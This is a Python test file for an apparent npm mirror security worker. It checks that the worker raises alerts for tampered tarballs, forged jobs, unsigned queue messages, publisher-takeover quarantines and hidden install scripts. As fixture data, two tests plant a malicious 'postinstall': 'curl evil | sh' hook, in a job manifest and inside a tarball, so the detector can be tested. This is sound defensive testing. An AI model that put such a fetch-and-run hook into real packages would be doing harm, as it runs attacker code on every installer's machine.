"""The security events the worker raises for people (`events.Alert`, the notifier's input).

The worker's own verdicts, as alerts through `metrics.events`: tampered bytes and a target
holding other bytes (`tampered`), a job that is not what public publishes (`forged-job`), a
message no job key vouches for (`forged-job`, one per reason however many messages), a
version a takeover signal holds back (`quarantine`) and a tarball hiding an install script
(`install-scripts`). An ordinary retirement raises nothing.
"""

from __future__ import annotations

import dataclasses
import json
from datetime import timedelta

from mirrorgate.events import Alert
from mirrorgate.mirror import QueueMessage, ReceiptHandle
from mirrorgate.rules import parse_rules
from tests.rules.signing import takeover
from tests.servers.fixture_registry import Fault, FixtureRegistry
from tests.servers.packages import build_tarball, make_package, make_version, tarball_path
from tests.servers.verdaccio import Verdaccio
from tests.worker.rig import Rig, RigFactory, job_from


def alerts(rig: Rig) -> list[Alert]:
    raised: list[Alert] = []
    rig.metrics.events.send_alerts_to(raised.append)
    return raised


async def test_tampered_bytes_raise_a_tampered_alert_with_both_digests(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    package = make_package("left-pad", ["1.3.0"])
    public_registry.add(package)
    public_registry.fault(tarball_path("left-pad", "1.3.0"),
                          Fault(body=b"\x1f\x8b" + b"not the admitted bytes" * 50))
    rig = await make_rig()
    raised = alerts(rig)
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))

    assert await rig.handle_next() == "tampered"

    [alert] = raised
    assert (alert.kind, alert.subject, alert.package, alert.version) == (
        "tampered", "left-pad@1.3.0", "left-pad", "1.3.0")
    assert alert.data["where"] == "worker"
    assert alert.data["expected"] == package.version("1.3.0").integrity
    assert alert.data["actual"].startswith("sha512-")
    assert "published nothing" in alert.text


async def test_a_target_holding_other_bytes_is_a_tampered_alert_too(
        make_rig: RigFactory, public_registry: FixtureRegistry, verdaccio: Verdaccio) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    other = make_version("left-pad", "1.3.0", files={"index.js": b"module.exports = 'evil';\n"})
    verdaccio.publish(other.marked())
    rig = await make_rig(target=verdaccio)
    raised = alerts(rig)
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))

    assert await rig.handle_next() == "retired"

    [alert] = raised
    assert alert.kind == "tampered"
    assert alert.data["where"] == "target"
    assert alert.data["stored"] == other.integrity


async def test_a_forged_job_raises_a_forged_job_alert_naming_the_reason(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    raised = alerts(rig)
    job = job_from(public_registry, "left-pad", "1.3.0")
    await rig.queue.enqueue(dataclasses.replace(
        job, manifest={**job.manifest, "scripts": {"postinstall": "curl evil | sh"}}))

    assert await rig.handle_next() == "retired"

    [alert] = raised
    assert (alert.kind, alert.subject) == ("forged-job", "left-pad@1.3.0")
    assert alert.data["reason"] == "manifest-mismatch"
    assert alert.data["fields"] == ["scripts"]


async def test_unsigned_messages_are_one_alert_per_reason_however_many_arrive(
        make_rig: RigFactory) -> None:
    rig = await make_rig()
    raised = alerts(rig)
    for index in range(3):
        message = QueueMessage(None, ReceiptHandle(f"r{index}"), 1,
                               problem="the message carries no signature", refusal="unsigned",
                               message_id=f"m{index}")
        assert await rig.worker.handle(message) == "retired"

    assert [alert.kind for alert in raised] == ["forged-job"] * 3
    assert {alert.repeat_key for alert in raised} == {("forged-job", "unsigned")}
    assert raised[0].data["message_id"] == "m0"


async def test_a_job_a_takeover_signal_quarantines_raises_a_quarantine_alert(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    public_registry.add(make_package("taken", takeover("taken", "1.0.3",
                                                       age=timedelta(hours=1))))
    # the version is hours old: the one-day default cooldown is off, so the signal decides
    rig = await make_rig(rules=parse_rules('[age]\nminimum = "0"\n\n'
                                           '[publisher]\nchange = "quarantine"\n'))
    raised = alerts(rig)
    await rig.queue.enqueue(job_from(public_registry, "taken", "1.0.3"))

    assert await rig.handle_next() == "retired"

    [alert] = raised
    assert alert.kind == "quarantine"
    assert alert.data["rule"] == "publisher-change"
    assert alert.data["where"] == "worker"
    assert alert.data["until"] is not None
    assert "quarantined until" in alert.text


async def test_an_ordinary_retirement_raises_no_alert(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    public_registry.fault(tarball_path("left-pad", "1.3.0"), Fault(status=404))
    rig = await make_rig()
    raised = alerts(rig)
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0"))

    assert await rig.handle_next() == "retired"
    assert raised == []


async def test_a_tarball_hiding_an_install_script_raises_an_install_scripts_alert(
        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
    inner = {"name": "hidden-hook", "version": "1.0.0",
             "scripts": {"postinstall": "curl evil | sh"}}
    tarball = build_tarball({"package.json": json.dumps(inner).encode()})
    public_registry.add(make_package("hidden-hook", [
        make_version("hidden-hook", "1.0.0", tarball=tarball)]))
    rig = await make_rig(rules=parse_rules("[install_scripts]\nblock = true\n"))
    raised = alerts(rig)
    await rig.queue.enqueue(job_from(public_registry, "hidden-hook", "1.0.0"))

    assert await rig.handle_next() == "retired"

    [alert] = raised
    assert (alert.kind, alert.subject) == ("install-scripts", "hidden-hook@1.0.0")
    assert alert.data["where"] == "worker"
    assert "postinstall" in alert.text
